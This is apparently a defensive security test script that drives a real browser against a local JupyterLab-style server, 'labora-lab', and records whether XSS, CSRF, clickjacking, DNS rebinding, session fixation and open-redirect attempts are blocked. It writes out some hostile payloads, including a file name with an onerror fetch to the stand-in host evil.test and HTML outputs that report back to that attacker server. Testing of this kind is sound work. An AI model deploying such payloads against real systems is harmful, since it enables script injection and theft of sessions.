"""Attacks `labora-lab` from notebooks, from files and from pages of others, in a real browser with a user logged in.

    LABORA_LAB=target/debug/labora-lab LABORA_LAB_IMAGE=FOLDER python hostile.py [--page FILE]

Each attempt is a line of the table that is printed: what was tried, and what the attacker got. The attacker has a
server of its own, which notes what browsers send it. It is reached as another site (evil.test), and as another port of
the same host, to which browsers send the same cookies. A script of an attack counts as stopped if it does not run, or
if it runs without the origin of the laboratory. The program fails if an attempt that has to be stopped is not.

It needs the package playwright. `LABORA_CHROMIUM` names a Chromium other than Playwright's own.
"""

import argparse
import contextlib
import http.server
import json
import os
import pathlib
import sys
import tempfile
import threading
import urllib.parse
import urllib.request

from playwright.sync_api import Error, sync_playwright

import hostile_notebook as attacks
from laboratory import laboratory

SETTLE_MS = 1500
PATIENCE_MS = 240_000


class Attacker:
    """A server that notes requests, and serves pages of attacks."""

    def __init__(self):
        self.requests, self.pages = [], {}
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            """Notes a request and answers it."""

            def do_GET(self):
                outer.requests.append((self.path, dict(self.headers)))
                body = outer.pages.get(self.path.partition("?")[0], "").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *arguments):
                """Says nothing."""

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def url(self, host="evil.test"):
        """Its address under a name."""
        return f"http://{host}:{self.port}/"

    def take(self, start):
        """The parameters of requests whose path begins so, which are forgotten."""
        found = [request for request in self.requests if request[0].startswith(start)]
        self.requests = [request for request in self.requests if request not in found]
        return [(dict(urllib.parse.parse_qsl(path.partition("?")[2])), headers) for path, headers in found]


class Trial:
    """A laboratory with a logged-in user, an attacker, and the table of attempts."""

    def __init__(self, context, said, drive, attacker):
        self.context, self.url, self.token, self.drive, self.evil = context, said["url"], said["token"], drive, attacker
        self.origin = self.url.rstrip("/")
        self.rows, self.holes = [], []

    def note(self, attempt, holds, result):
        """A line of the table."""
        self.rows.append((attempt, result if holds else f"**HOLE**: {result}"))
        print("stopped" if holds else "HOLE   ", attempt, "->", result, flush=True)
        if not holds:
            self.holes.append(attempt)

    def call(self, method, path, body=None):
        """A request of the user, by the token; the JSON of its answer."""
        headers = {"Authorization": f"token {self.token}"}
        data = None if body is None else json.dumps(body).encode()
        request = urllib.request.Request(self.url + path, data, headers, method=method)
        with urllib.request.urlopen(request, timeout=60) as answer:
            text = answer.read()
            return json.loads(text) if text else None

    def state(self):
        """What an attack would change: names of files, kernels and terminals."""
        files = sorted(path.name for path in self.drive.iterdir() if not path.name.startswith("."))
        return files, len(self.call("GET", "api/kernels")), len(self.call("GET", "api/terminals"))

    @contextlib.contextmanager
    def page(self, address, **options):
        """A page of the user's browser, until the end of the block."""
        page = self.context.new_page()
        page.on("dialog", lambda dialog: dialog.dismiss())
        with contextlib.suppress(Error):
            page.goto(address, wait_until="load", timeout=30_000, **options)
        page.wait_for_timeout(SETTLE_MS)
        yield page
        page.close()

    def scripts(self):
        """What scripts reported: those with the laboratory's origin, and the number of others."""
        ran = [seen for seen, _ in self.evil.take("/ran")]
        own = sorted({seen["name"] for seen in ran if seen["origin"] == self.origin})
        return own, len(ran) - len([seen for seen in ran if seen["origin"] == self.origin])


def open_notebook(trial):
    """An untrusted notebook, with every link of its outputs clicked."""
    before = trial.state()
    with trial.page(f"{trial.url}lab/tree/hostile.ipynb") as page:
        page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=PATIENCE_MS)
        page.wait_for_timeout(4000)
        cells = page.locator(".jp-Notebook .jp-Cell")
        shown = cells.count()
        pressed = page.evaluate(
            """() => { let n = 0; for (const e of document.querySelectorAll('.jp-Notebook .hostile, .jp-Notebook a, '
               + '.jp-Notebook button.hostile')) { if (!/^https?:/.test(e.href || '')) { e.click(); n++ } }
               return n }"""
        )
        page.wait_for_timeout(SETTLE_MS)
        pwned, where = page.evaluate("top.pwned"), page.url
    own, _ = trial.scripts()
    trial.note(
        f"scripts in outputs, Markdown, attachments, metadata and forms of a notebook that is opened "
        f"({shown} cells, {len(attacks.outputs(''))} kinds of outputs, {pressed} links pressed)",
        not own and pwned is None and shown > 10,
        f"ran with the page's rights: {', '.join(own) or 'none'}",
    )
    trial.note(
        "such outputs start terminals by JupyterLab's command links, submit forms or move the page",
        trial.state()[1:] >= before[1:]
        and trial.state()[2] == before[2]
        and where.startswith(trial.url)
        and not trial.evil.take("/form")
        and not trial.evil.take("/moved"),
        "nothing happened",
    )
    styles = trial.evil.take("/style")
    trial.note("they load style sheets of the attacker", not styles, "not loaded" if not styles else str(styles[0][0]))
    referers = [headers.get("Referer") for _, headers in trial.evil.take("/pixel")]
    trial.note(
        "an image of another site in Markdown learns the page's address",
        referers and not any(referers),
        "the image is loaded, as in stock JupyterLab; the request has no `Referer` and no cookie",
    )


def trusted_notebook(trial):
    """A script of an output that the user trusts: it shows that the attempts before would have been noticed."""
    for name, is_trusted in (("untrusted", False), ("trusted", True)):
        output = {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": f'<img src=x onerror="{attacks.script(name, trial.evil.url())}">'},
        }
        cell = {
            "cell_type": "code",
            "id": "a",
            "execution_count": 1,
            "metadata": {},
            "source": name,
            "outputs": [output],
        }
        content = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
        (trial.drive / f"{name}.ipynb").write_text(json.dumps(content))
        if is_trusted:
            trial.call("POST", f"api/contents/{name}.ipynb/trust")
        with trial.page(f"{trial.url}lab/tree/{name}.ipynb") as page:
            page.wait_for_selector(".jp-Notebook .jp-OutputArea-child", state="attached", timeout=PATIENCE_MS)
            page.wait_for_timeout(3000)
    own, _ = trial.scripts()
    trial.note(
        "for comparison, a script of a notebook that the user has trusted",
        own == ["trusted"],
        "it runs with the page's rights, as in stock JupyterLab",
    )


def hostile_names(trial):
    """File names with HTML, in the file browser, the tab and the launcher."""
    with trial.page(f"{trial.url}lab/tree/{urllib.parse.quote(name_of(trial.evil))}") as page:
        page.wait_for_timeout(3000)
        pwned = page.evaluate("top.pwned")
        shown = page.locator(".jp-DirListing-item", has_text="onerror").count()
    own, _ = trial.scripts()
    trial.note("a file whose name is HTML", not own and pwned is None and shown > 0, "shown as text")


def name_of(evil):
    """The name of such a file."""
    address = evil.url()[:-1].replace("/", "&sol;")
    return f"<img src=x onerror=fetch('{address}&sol;ran?name=filename&origin='+self.origin)>.txt"


def files(trial):
    """Files of the drive, opened as pages of their own, in a frame and as an export."""
    kinds = {"files/": ("page.html", "page.svg", "page.xhtml", "page.xml"), "view/": ("page.html", "page.svg")}
    for folder, names in kinds.items():
        for name in names:
            before = trial.state()
            with trial.page(f"{trial.url}{folder}{name}"):
                pass
            own, other = trial.scripts()
            did = sorted(
                {seen["what"] for seen, _ in trial.evil.take("/did") if seen["result"] not in ("refused", "0")}
            )
            how = f"{other} ran, without an origin" if other else "none ran"
            trial.note(
                f"`/{folder}{name}` with scripts that read cookies, the interface, `localStorage` and a terminal",
                not own and not did and trial.state() == before,
                f"{how}; they got {', '.join(did) or 'nothing'}",
            )
    with trial.page(f"{trial.url}nbconvert/html/exported.ipynb"):
        pass
    own, other = trial.scripts()
    trial.note("`/nbconvert/html` of the notebook's outputs", not own and other > 0, f"{other} ran, without an origin")
    for factory in ("HTML Viewer", "Markdown Preview", "Image", "CSVTable"):
        name = {"HTML Viewer": "page.html", "Markdown Preview": "page.md", "Image": "page.svg", "CSVTable": "page.csv"}[
            factory
        ]
        with trial.page(f"{trial.url}doc/tree/{name}?factory={urllib.parse.quote(factory)}") as page:
            page.wait_for_timeout(2500)
            pwned = page.evaluate("top.pwned")
        own, _ = trial.scripts()
        trial.note(
            f"`{name}` in JupyterLab's {factory}", not own and pwned is None, "no script ran with the page's rights"
        )


def foreign_pages(trial):
    """Pages of another site, and of another port of the same host."""
    lab = trial.url
    for host, where in (("evil.test", "another site"), ("127.0.0.1", "another port of the host")):
        before = trial.state()
        base = trial.evil.url(host)
        script = attacks.module("hostile_foreign.js", EVIL=base, LAB=lab, KERNEL=trial.kernel)
        trial.evil.pages["/attack"] = f"<!doctype html><meta charset=utf-8><body><script>{script}</script>"
        with trial.page(f"{base}attack") as page:
            page.wait_for_timeout(1500)
            framed = [frame.url for frame in page.frames if frame.url.startswith(lab + "lab")]
        did = [seen for seen, _ in trial.evil.take("/did")]
        got = sorted({f"{seen['what']}: {seen['result']}" for seen in did if seen["result"] != "refused"})
        loaded = [seen for seen in got if "loaded" in seen and "files" in seen]
        trial.note(
            f"a page of {where} sends forms and requests that change something",
            trial.state() == before,
            "nothing was changed",
        )
        trial.note(
            f"a page of {where} reads answers, frames, windows",
            not [seen for seen in got if seen.startswith("reads")],
            "refused",
        )
        trial.note(
            f"a page of {where} includes files of the drive as scripts and images",
            not loaded,
            ", ".join(loaded) or "refused",
        )
        trial.note(
            f"a page of {where} opens WebSockets of terminals, kernels and events",
            "WebSocket: opened" not in got and any(seen["what"] == "WebSocket" for seen in did),
            "refused",
        )
        trial.note(
            f"a page of {where} shows the laboratory in a frame (clickjacking)", not framed, "the browser refuses"
        )
        with trial.page(f"{trial.url}lab") as page:
            is_out = "/login" in page.url
            trial.note(
                f"a page of {where} logs the user out", not is_out, "logged out" if is_out else "still logged in"
            )


def theft(trial):
    """The token, the cookies and what the browser stores."""
    with trial.page(f"{trial.url}lab") as page:
        page.wait_for_timeout(2500)
        stored = page.evaluate(
            "JSON.stringify([localStorage, sessionStorage, document.cookie, document.body.innerHTML])"
        )
        history = page.evaluate("location.href")
    cookies = {cookie["name"]: cookie for cookie in trial.context.cookies(trial.url)}
    session = next(cookie for name, cookie in cookies.items() if name.startswith("labora-lab"))
    holds = trial.token not in stored + history and session["value"] not in stored
    trial.note(
        "a script of the page reads the token or the session's cookie",
        holds and session["httpOnly"],
        "the page has neither: the token is not in it, and the cookie is `HttpOnly`",
    )
    trial.note("the address that lets in is used a second time", "/login" in used_twice(trial), "asked for the token")
    trial.evil.take("/")
    with trial.page(f"{trial.url}files/link.html"):
        pass
    refers = [headers.get("Referer", "") for _, headers in trial.evil.take("/leak")]
    trial.note("a link out of a file of the drive", refers and not any(refers), "no `Referer`")
    with trial.page(trial.evil.url("127.0.0.1")):
        pass
    sent = [headers.get("Cookie", "") for _, headers in trial.evil.take("/")]
    trial.rows.append(
        (
            "a server on another port of the same host is sent the session's cookie",
            "**not prevented**: browsers do not tell ports apart. With TLS the cookie is `Secure`, and servers "
            "without a certificate of that host get none"
            if any(session["value"] in one for one in sent)
            else "not sent",
        )
    )


def used_twice(trial):
    """Where the address leads that let the user in, in another browser."""
    context = trial.context.browser.new_context()
    page = context.new_page()
    page.goto(trial.login_url)
    found = page.url
    context.close()
    return found


def hosts_and_sessions(trial):
    """DNS rebinding, a session that is fixed before the login, and addresses that lead elsewhere."""
    port = urllib.parse.urlparse(trial.url).port
    with trial.page(f"http://rebound.test:{port}/lab") as page:
        text = page.text_content("body")
    trial.note(
        "a name of the attacker that is rebound to the laboratory's address (DNS rebinding)",
        "not this server" in text,
        "status 403",
    )
    context = trial.context.browser.new_context()
    name = f"labora-lab-{port}"
    context.add_cookies([{"name": one, "value": "chosen", "url": trial.url} for one in (name, "_xsrf")])
    page = context.new_page()
    page.goto(f"{trial.url}login?next=//evil.test:{trial.evil.port}/")
    page.fill("input[name=password]", trial.token)
    page.click("button")
    page.wait_for_timeout(SETTLE_MS)
    values = {cookie["name"]: cookie["value"] for cookie in context.cookies(trial.url)}
    trial.note(
        "a cookie that was planted before the login (session fixation)",
        "chosen" not in (values[name], values["_xsrf"]),
        "the login makes new ones",
    )
    trial.note(
        "the login leads to another site (`next=//evil.test`)", page.url.startswith(trial.url), "leads to `/lab`"
    )
    context.add_cookies([{"name": "_xsrf", "value": "chosen", "url": trial.url}])
    status = page.evaluate(
        "fetch('/api/kernels', {method: 'POST', headers: {'X-XSRFToken': 'chosen'}, body: '{}'}).then((a) => a.status)"
    )
    trial.note("an XSRF cookie that was planted after the login", status == 403, "status 403")
    context.close()


def write_files(drive, evil, server):
    """The files of the attacks."""
    (drive / "hostile.ipynb").write_text(json.dumps(attacks.notebook(evil.url())))
    (drive / "exported.ipynb").write_text(json.dumps(attacks.exported(evil.url())))
    (drive / "page.html").write_text(attacks.page("page", evil.url(), server))
    (drive / "page.xhtml").write_text(
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n'
        f"{attacks.script('xhtml', evil.url())}\n//]]>"
        "</script></body></html>"
    )
    (drive / "page.xml").write_text(
        f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{attacks.script("xml", evil.url())}'
        "</x:script>".replace("&", "&amp;")
    )
    (drive / "page.svg").write_text(
        attacks.svg("svg-file", evil.url()).replace("=> {", "=&gt; {").replace("() =>", "() =&gt;")
    )
    (drive / "page.md").write_text(attacks.handlers("markdown-file", evil.url()))
    (drive / "page.csv").write_text(
        "a,b\n" + attacks.handlers("csv", evil.url()).replace("\n", " ").replace('"', "'") + ",2\n"
    )
    (drive / "secret.js").write_text("self.secret = 'read'")
    (drive / "pixel.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')
    (drive / "link.html").write_text(f'<img src="{evil.url()}leak">')
    (drive / name_of(evil)).write_text("x")


def main():
    """Runs all attempts."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--page", type=pathlib.Path, help="file for the table")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder, sync_playwright() as playwright:
        folder = pathlib.Path(folder)
        attacker = Attacker()
        with laboratory(folder, "--no-sandbox") as said:
            write_files(folder / "drive", attacker, said["url"])
            browser = playwright.chromium.launch(
                executable_path=os.environ.get("LABORA_CHROMIUM"),
                args=["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP *.test 127.0.0.1"],
            )
            trial = Trial(browser.new_context(), said, folder / "drive", attacker)
            trial.login_url = said["login_url"]
            trial.call("POST", "api/terminals", {"name": "1"})
            trial.kernel = trial.call("POST", "api/kernels", {"name": "python3"})["id"]
            with trial.page(said["login_url"]) as page:
                assert "/lab" in page.url, page.url
            for attempt in (
                open_notebook,
                hostile_names,
                files,
                foreign_pages,
                theft,
                hosts_and_sessions,
                trusted_notebook,
            ):
                attempt(trial)
            version = browser.version
            browser.close()
    lines = ["| attempt | result |", "|---|---|", *(f"| {attempt} | {result} |" for attempt, result in trial.rows)]
    print("\n".join(lines))
    if options.page:
        options.page.write_text("\n".join(lines) + "\n")
    if trial.holes:
        sys.exit(f"{len(trial.holes)} attempts were not stopped in Chromium {version}")
    print(f"{len(trial.rows)} attempts in Chromium {version}")


if __name__ == "__main__":
    main()
